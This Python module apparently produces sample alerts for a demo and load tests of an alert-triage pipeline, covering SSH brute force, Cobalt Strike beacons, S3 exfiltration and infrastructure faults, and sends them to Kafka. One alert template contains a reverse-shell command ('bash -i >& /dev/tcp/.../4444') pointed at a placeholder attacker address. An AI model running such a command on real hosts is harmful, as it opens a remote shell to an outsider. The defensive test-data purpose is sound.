"""Sample alerts: the demo's short stories, so that a newcomer sees incidents flow, and an endless
seeded stream over an estate of hosts, for load (the benchmarks, the fault suite).

Both draw on one catalogue of alert kinds (``KINDS``), each as a monitoring tool raises it.
"""

from __future__ import annotations

import asyncio
import itertools
import logging
import random
import secrets
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any

from aiokafka import AIOKafkaProducer

from shared.alerts import Alert
from shared.topics import ALERTS_RAW, TopicNames

log = logging.getLogger(__name__)


@dataclass(frozen=True)
class AlertKind:
    """One kind of alert a tool raises; ``{placeholders}`` in its texts are filled per alert."""

    weight: int  # how common it is in a mid-sized estate's stream
    source: str
    title: str
    description: str
    severity: str
    labels: dict[str, str] = field(default_factory=dict)
    user: bool = False  # names an account
    src_ip: str | None = None  # "internal" or "external" address, if it names one
    dst_ip: str | None = None

    def alert(self, *, host: str, time: datetime | None = None, **values: Any) -> dict[str, Any]:
        """One native alert of this kind about ``host``, its texts filled from ``values``.

        ``labels`` adds to the kind's labels; ``description`` replaces its text; ``user``, ``src_ip`` and
        ``dst_ip`` become fields as well as text; ``id`` defaults to a fresh UUID.
        """
        labels = values.pop("labels", {})
        text = {"host": host, "service": "", "n": "", "user": "", "src_ip": "", "dst_ip": "", "bucket": ""} | values
        body: dict[str, Any] = {
            "id": values.get("id") or str(uuid.uuid4()),
            "source": self.source,
            "title": self.title.format(**text),
            "description": values.get("description") or self.description.format(**text),
            "severity": values.get("severity") or self.severity,
            "host": host,
            "labels": {**self.labels, **labels},
        }
        if time is not None:
            body["time"] = time.isoformat()
        for name in ("user", "src_ip", "dst_ip"):
            if text[name]:
                body[name] = text[name]
        return body


# Mostly infrastructure alerts, security findings in between, every incident type represented.
KINDS = {
    "high_error_rate": AlertKind(
        14,
        "alertmanager",
        "HighErrorRate: {service} 5xx above 5%",
        "job={service} error ratio 0.{n} for 10m",
        "high",
        {"alertname": "HighErrorRate"},
    ),
    "high_latency": AlertKind(
        14,
        "alertmanager",
        "HighLatency: {service} p99 above 2s",
        "p99 latency {n}00ms for 10m",
        "medium",
        {"alertname": "HighLatency"},
    ),
    "filesystem_full": AlertKind(
        8,
        "alertmanager",
        "NodeFilesystemAlmostFull: / above 95%",
        "{host}: 96.{n}% used on /",
        "low",
        {"alertname": "NodeFilesystemAlmostFull"},
    ),
    "crash_looping": AlertKind(
        6,
        "alertmanager",
        "KubePodCrashLooping: {service}",
        "container restarted {n} times in 15m",
        "medium",
        {"alertname": "KubePodCrashLooping"},
    ),
    "ssh_brute_force": AlertKind(
        10,
        "wazuh",
        "sshd: brute force trying to get access to the system",
        "Multiple authentication failures for user {user} from {src_ip}",
        "medium",
        {"rule_id": "5712"},
        user=True,
        src_ip="external",
    ),
    "ssh_login_after_brute_force": AlertKind(
        4,
        "wazuh",
        "sshd: authentication success after brute force",
        "Successful login for user {user} from {src_ip} after {n} failures",
        "high",
        {"rule_id": "40112"},
        user=True,
        src_ip="external",
    ),
    "failed_logins": AlertKind(
        6,
        "okta",
        "Multiple failed logins for user {user}",
        "{n} failures in 5 minutes",
        "low",
        {"event_type": "user.session.start"},
        user=True,
        src_ip="external",
    ),
    "reverse_shell": AlertKind(
        3,
        "falco",
        "Reverse shell spawned in a container",
        "bash -i >& /dev/tcp/{dst_ip}/4444 0>&1 by user {user}",
        "critical",
        {"rule": "Reverse shell"},
        user=True,
        dst_ip="external",
    ),
    "cobalt_strike": AlertKind(
        5,
        "suricata",
        "ET MALWARE Cobalt Strike Beacon Observed",
        "TLS to {dst_ip}, JA3 72a589da586844d7",
        "high",
        {"signature_id": "2027082"},
        src_ip="internal",
        dst_ip="external",
    ),
    "port_scan": AlertKind(
        6,
        "suricata",
        "ET SCAN Nmap port scan detected",
        "SYN scan of {n}00 ports from {src_ip}",
        "low",
        {"signature_id": "2009582"},
        src_ip="external",
    ),
    "credential_dumping": AlertKind(
        3,
        "crowdstrike",
        "Credential dumping via mimikatz detected",
        "lsass.exe accessed by {user}",
        "critical",
        {"tactic": "Credential Access"},
        user=True,
    ),
    "s3_exfiltration": AlertKind(
        3,
        "guardduty",
        "Data exfiltration: unusual volume of S3 GetObject",
        "Exfiltration:S3/AnomalousBehavior by user {user} from {src_ip}",
        "high",
        {"finding_type": "Exfiltration:S3/AnomalousBehavior"},
        user=True,
        src_ip="external",
    ),
    "s3_bucket_public": AlertKind(
        2,
        "guardduty",
        "S3 bucket is public: {bucket}",
        "Policy:S3/BucketAnonymousAccessGranted on arn:aws:s3:::{bucket}",
        "high",
        {"finding_type": "Policy:S3/BucketAnonymousAccessGranted"},
    ),
    "listening_port": AlertKind(
        8,
        "osquery",
        "New listening port opened",
        "port {n}443 opened by /usr/bin/{service}",
        "info",
        {"query": "listening_ports"},
    ),
    "ddos_mitigated": AlertKind(
        8,
        "cloudflare",
        "HTTP DDoS attack mitigated",
        "{n}0k requests/s towards {service}",
        "medium",
        {"zone": "example.com"},
    ),
}
SEVERITIES = ("info", "low", "medium", "high", "critical")
ROLES = ("web", "api", "db", "worker", "k8s-node", "cache", "bastion", "etl", "mail", "vpn")
SERVICES = ("checkout", "api-gateway", "search", "payments", "auth", "catalog", "orders", "billing")


# ---- the demo's stories --------------------------------------------------------------------------


def scenarios(round_no: int) -> list[list[dict[str, Any]]]:
    """Four incidents' worth of alerts; hosts change every round so each round opens new incidents."""
    n = round_no
    bastion, web, api, bucket_host = f"bastion-{n:02d}", f"web-{n:02d}", f"api-gw-{n:02d}", f"etl-{n:02d}"
    attacker, now = "203.0.113.45", datetime.now(UTC)
    return [
        [
            KINDS["ssh_brute_force"].alert(host=bastion, time=now, user="root", src_ip=attacker),
            KINDS["ssh_login_after_brute_force"].alert(host=bastion, time=now, user="deploy", src_ip=attacker, n="40"),
            KINDS["reverse_shell"].alert(
                host=bastion, time=now, user="deploy", dst_ip=attacker, labels={"priority": "Critical"}
            ),
        ],
        [
            KINDS["cobalt_strike"].alert(
                host=web,
                time=now,
                src_ip="10.0.4.17",
                dst_ip="198.51.100.23",
                description="TLS to cdn-update.bad-actor.example (198.51.100.23), JA3 72a589da586844d7f0818ce684948eea",
            ),
        ],
        [
            KINDS["high_error_rate"].alert(
                host=api, time=now, service="api-gateway", n="12", labels={"service": "api-gateway"}
            ),
            KINDS["high_latency"].alert(host=api, time=now, service="api-gateway", n="34"),
        ],
        [
            KINDS["s3_bucket_public"].alert(host=bucket_host, time=now, bucket="customer-exports"),
            KINDS["s3_exfiltration"].alert(host=bucket_host, time=now, user="etl-svc", src_ip="192.0.2.77"),
        ],
    ]


def demo_alerts() -> Iterator[Alert]:
    """Alerts forever, scenario by scenario, each validated against the native schema."""
    for round_no in itertools.count(1):
        for scenario in scenarios(round_no):
            for alert in scenario:
                yield Alert.model_validate(alert)


async def run_demo(producer: AIOKafkaProducer, names: TopicNames, *, interval_s: float = 2.0) -> None:
    """Publish one sample alert every ``interval_s`` until cancelled."""
    topic = names(ALERTS_RAW)
    for alert in demo_alerts():
        await producer.send_and_wait(topic, key=partition_key(alert), value=alert.model_dump_json().encode())
        log.info("demo alert sent: %s on %s", alert.title, alert.host)
        await asyncio.sleep(interval_s)


def partition_key(alert: Alert) -> bytes:
    """Alerts about one entity share a partition, so one detector instance sees them in order."""
    return alert.entity.encode()


# ---- a stream for load ---------------------------------------------------------------------------


class EstateAlerts:
    """Alerts of every kind in ``KINDS``' proportions over a fixed estate of hosts, the same for a seed.

    Ids are ``<prefix>-<run>-<sequence>``, ``run`` random unless set; hosts are ``[<site>-]<role>-<nnnn>``,
    so that estates with different sites never share an incident.
    """

    def __init__(self, *, hosts: int, seed: int, site: str = "", prefix: str = "sample") -> None:
        self.rng = random.Random(seed)
        self.prefix = prefix
        self.run = secrets.token_hex(3)
        self.seq = 0
        self.hosts = [f"{site + '-' if site else ''}{ROLES[i % len(ROLES)]}-{i:04d}" for i in range(hosts)]
        self.users = [f"user{i:03d}" for i in range(300)] + ["root", "deploy", "admin", "etl-svc"]
        self.kinds = tuple(KINDS.values())
        self.weights = [kind.weight for kind in self.kinds]

    def address(self, kind: str) -> str:
        """A random address: ``internal`` (10/8) or ``external``."""
        r = self.rng
        if kind == "internal":
            return f"10.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"
        return f"{r.choice((198, 203, 185, 45))}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def make(self) -> tuple[bytes, dict[str, Any]]:
        """Return (Kafka key, native alert without its time) for one new alert."""
        r = self.rng
        kind = r.choices(self.kinds, self.weights)[0]
        self.seq += 1
        host = r.choice(self.hosts)
        service = r.choice(SERVICES)  # drawn in this order: a seed gives the same stream as it always has
        n = str(r.randrange(1, 10))
        body = kind.alert(
            host=host,
            id=f"{self.prefix}-{self.run}-{self.seq:08d}",
            service=service,
            n=n,
            bucket=f"exports-{n}",
            user=r.choice(self.users) if kind.user else "",
            src_ip=self.address(kind.src_ip) if kind.src_ip else "",
            dst_ip=self.address(kind.dst_ip) if kind.dst_ip else "",
            severity=kind.severity if r.random() < 0.85 else r.choice(SEVERITIES),
            labels={"env": "prod"},
        )
        return f"host:{host}".encode(), body
